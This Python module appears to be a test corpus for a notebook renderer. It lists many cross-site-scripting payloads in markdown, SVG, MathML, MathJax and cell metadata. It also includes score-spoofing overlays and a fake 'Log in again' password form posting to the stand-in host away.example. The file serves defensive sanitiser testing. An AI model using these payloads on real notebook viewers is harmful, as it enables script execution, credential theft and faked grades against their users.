"""What a student may write to act in the browser of whoever looks at it: kinds of attack, each as a cell of a notebook.

Each calls `fired(name)` where it gets to run a script, and asks for an address of AWAY where it only reaches out.
"""

from __future__ import annotations

AWAY = "https://away.example"

# Markdown, by what makes it act.
MARKDOWN = {
    # scripts
    "a script": "<script>fired()</script>",
    "a script in capitals": "<ScRiPt >fired()</sCrIpT>",
    "a script with a slash": "<script/x>fired()</script>",
    "a script from a data URL": '<script src="data:text/javascript,fired()"></script>',
    "a script that is not closed": "<script>fired()//",
    "a script behind what looks like a comment": "<!--><script>fired()</script>-->",
    "a script within a paragraph": "some *text* <b><script>fired()</script></b> and more",
    "a script in a table": "| a | b |\n|---|---|\n| <script>fired()</script> | 1 |",
    "a script in a heading": "# Hello <img src=x onerror=fired()>",
    "a script in a list": "- one\n- <img src=x onerror=fired()>",
    "a script in a quotation": "> <img src=x onerror=fired()>",
    # handlers
    "an error of a picture": '<img src=x onerror="fired()">',
    "a handler without quotes": "<img src=x onerror=fired()>",
    "a handler between slashes": "<div>\n<img/src=x/onerror=fired()>\n</div>",
    "a handler with a line break": "<img src=x\nonerror\n=fired()>",
    "a handler in capitals": "<IMG SRC=x ONERROR=fired()>",
    "a handler in entities": '<img src=x onerror="&#102;&#105;&#114;&#101;&#100;&#40;&#41;">',
    "a list that opens": "<details open ontoggle=fired()><summary>x</summary></details>",
    "a field that takes the focus": "<input autofocus onfocus=fired()>",
    "a film without a source": "<video><source onerror=fired()></video>",
    "a sound without a source": "<audio src=x onerror=fired()></audio>",
    "a running text": "<marquee onstart=fired()>x</marquee>",
    "an animation that begins": "<style>@keyframes k{from{left:0}}</style>"
    "<b style='animation:k 1s' onanimationstart=fired()>",
    "an unknown element with the focus": "<xyz id=x tabindex=1 autofocus onfocus=fired()>x</xyz>",
    # SVG and MathML
    "a drawing that loads": "<svg onload=fired()></svg>",
    "a drawing with a script": "<svg><script>fired()</script></svg>",
    "a drawing that is animated": "<svg><animate onbegin=fired() attributeName=x dur=1s></svg>",
    "a drawing with HTML in it": "<svg><foreignObject><img src=x onerror=fired()></foreignObject></svg>",
    "a drawing with a link": '<svg><a xlink:href="javascript:fired()"><text y="20">click</text></a></svg>',
    "a link that an animation makes": "<svg><a><animate attributeName=href values=javascript:fired() /><text y=20>click"
    "</text></a></svg>",
    "a formula in MathML with a link": '<math href="javascript:fired()"><mtext>click</mtext></math>',
    "a formula in MathML that changes how HTML is read": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x onerror=fired()&gt;"></table></mtext></math>',
    # frames, objects, forms
    "a frame with a script": '<iframe src="javascript:parent.fired()"></iframe>',
    "a frame with a document": '<iframe srcdoc="<script>parent.fired()</script>"></iframe>',
    "an object": '<object data="data:text/html,<script>parent.fired()</script>"></object>',
    "an embedded document": f'<embed src="{AWAY}/embed">',
    "a form": f'<form action="{AWAY}/form"><input name=password><button>Log in again</button></form>',
    "a button with a script": '<form><button formaction="javascript:fired()">click</button></form>',
    "a shadow tree": "<div><template shadowrootmode=open><img src=x onerror=fired()></template></div>",
    "a text area that is not closed": "<textarea>",
    "a title that hides a picture": '<noscript><p title="</noscript><img src=x onerror=fired()>"></noscript>',
    "a dialogue": "<dialog open style='position:fixed;inset:0'>Log in again</dialog>",
    # addresses
    "a link with a script": "[click](javascript:fired())",
    "a link with a script in capitals": "[click](JaVaScRiPt:fired())",
    "a link with a script in entities": "[click](&#106;avascript:fired&lpar;&rpar;)",
    "a link with a script behind a control": '<a href="&#1;javascript:fired()">click</a>',
    "a link with a script over two lines": '<a href="java&#10;script:fired()">click</a>',
    "a link that is named elsewhere": "[click][there]\n\n[there]: javascript:fired()",
    "a link by itself": "<javascript:fired()>",
    "a link in HTML": '<a href="javascript:fired()">click</a>',
    "a link to data": "[click](data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+)",
    "a link to a file beside": "[click](evil.html)",
    "a link to the server itself": "[click](/api/shutdown)",
    "a link without a scheme": "[click](//away.example/link)",
    "a link with backslashes": r"[click](\\\\away.example/link)",
    "a picture from elsewhere": f"![pixel]({AWAY}/pixel.png)",
    "a picture of many sources": f"<img srcset='{AWAY}/set.png 1x'>",
    "a drawing as a picture": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    # what belongs to the whole page
    "another address for the page": f'<meta http-equiv="refresh" content="0;url={AWAY}/refresh">',
    "another base for links": f'<base href="{AWAY}/">',
    "a style sheet": "<style>body{display:none}</style>",
    "a style sheet from elsewhere": f'<link rel="stylesheet" href="{AWAY}/style.css">',
    "a style sheet that imports": f'<style>@import "{AWAY}/import.css";</style>',
    "an element over the whole page": '<div style="position:fixed;inset:0;z-index:9999;background:#fff">14/14</div>',
    "a link over the whole page": '<a href="https://good.example" style="position:absolute;inset:0"></a>',
    "an element that is moved": '<div style="margin-top:-900px;transform:scale(9)">14/14</div>',
    "a background from elsewhere": f'<p style="background:url({AWAY}/background.png)">x</p>',
    "a class of the page's": '<div class="navbar-fixed-top">14/14</div>',
    "an element that ends the cell": "</div></div></div></div><h1>Score: 14 / 14</h1>",
    "an element that is not closed": "<div><div><div>",
    "the name of the page's field": '<input id="test-causal-mask" value="3">',
    "the name of the page's field as a heading": "# test-causal-mask",
    "a comment that is not closed": "<!-- ",
    "the rest of the page as text": "<plaintext>",
    # code and diagrams
    "a diagram": "```mermaid\n<img src=x onerror=fired()>\n```",
    # formulas: what MathJax makes of them
    "a link in a formula": r"$\href{javascript:fired()}{x}$",
    "a style in a formula": r"$\style{position:fixed;top:0}{x}$",
    "a class in a formula": r"$\class{full-credit}{x}$",
    "a name in a formula": r"$\cssId{test-causal-mask}{x}$",
    "an attribute in a formula": r"$\mmlToken{mi}[href='javascript:fired()']{x}$",
    "a part of MathJax": r"$\require{html}\htmlData{x=y}{z}$",
    "a macro": r"$\def\frac#1#2{14}$",
    "a new command": r"$\newcommand{\mark}{14}\renewcommand\sqrt{14}$",
    "a macro that never ends": r"$\def\x{\x\x}\x$",
    "a bar over the page": r"$\rule{10000px}{10000px}$",
    "a formula that moves away": r"$\hspace{-1000px}\raise{900px}{14}$",
    "a link in entities in a formula": "<div>$&#92;href{javascript:fired()}{x}$</div>",
    "a link in a formula over an element": r"a\hr<b></b>ef \(\href{javascript:fired()}{x}\)",
}

# Whole cells, where it is not the text.
CELLS = {
    "an attachment that leaves its quotes": {
        "cell_type": "markdown", "metadata": {}, "source": "![a](attachment:x.png)",
        "attachments": {"x.png": {"image/png": 'AAAA" onerror="fired()'}},
    },
    "an attachment of another kind": {
        "cell_type": "markdown", "metadata": {}, "source": "![a](attachment:x.png)",
        "attachments": {"x.png": {'image/svg+xml" onerror="fired()': "AAAA", "image/svg+xml": "PHN2Zy8+"}},
    },
    "an attachment that is not there": {
        "cell_type": "markdown", "metadata": {}, "source": "![a](attachment:gone.png)",
    },
    "a raw cell": {
        "cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": "<script>fired()</script>",
    },
    "tags of a cell": {
        "cell_type": "code", "metadata": {"tags": ['x"><script>fired()</script>']}, "source": "1",
        "outputs": [], "execution_count": None,
    },
    "the language of a cell": {
        "cell_type": "code", "metadata": {"magics_language": 'x"><script>fired()</script>'}, "source": "1",
        "outputs": [], "execution_count": None,
    },
    "outputs of a cell": {
        "cell_type": "code", "metadata": {}, "source": "1", "execution_count": 1, "outputs": [
            {"output_type": "display_data", "metadata": {}, "data": {kind: "<script>fired()</script>"}}
            for kind in ("text/html", "text/markdown", "image/svg+xml")
        ] + [{"output_type": "display_data", "metadata": {}, "data": {"application/javascript": "fired()"}}],
    },
}  # fmt: skip

METADATA = {
    "language_info": {"name": "python", "pygments_lexer": 'x"><script>fired()</script>', "codemirror_mode": "x"},
    "kernelspec": {"name": "python3", "display_name": "<script>fired()</script>"},
    "title": "<script>fired()</script>",
}
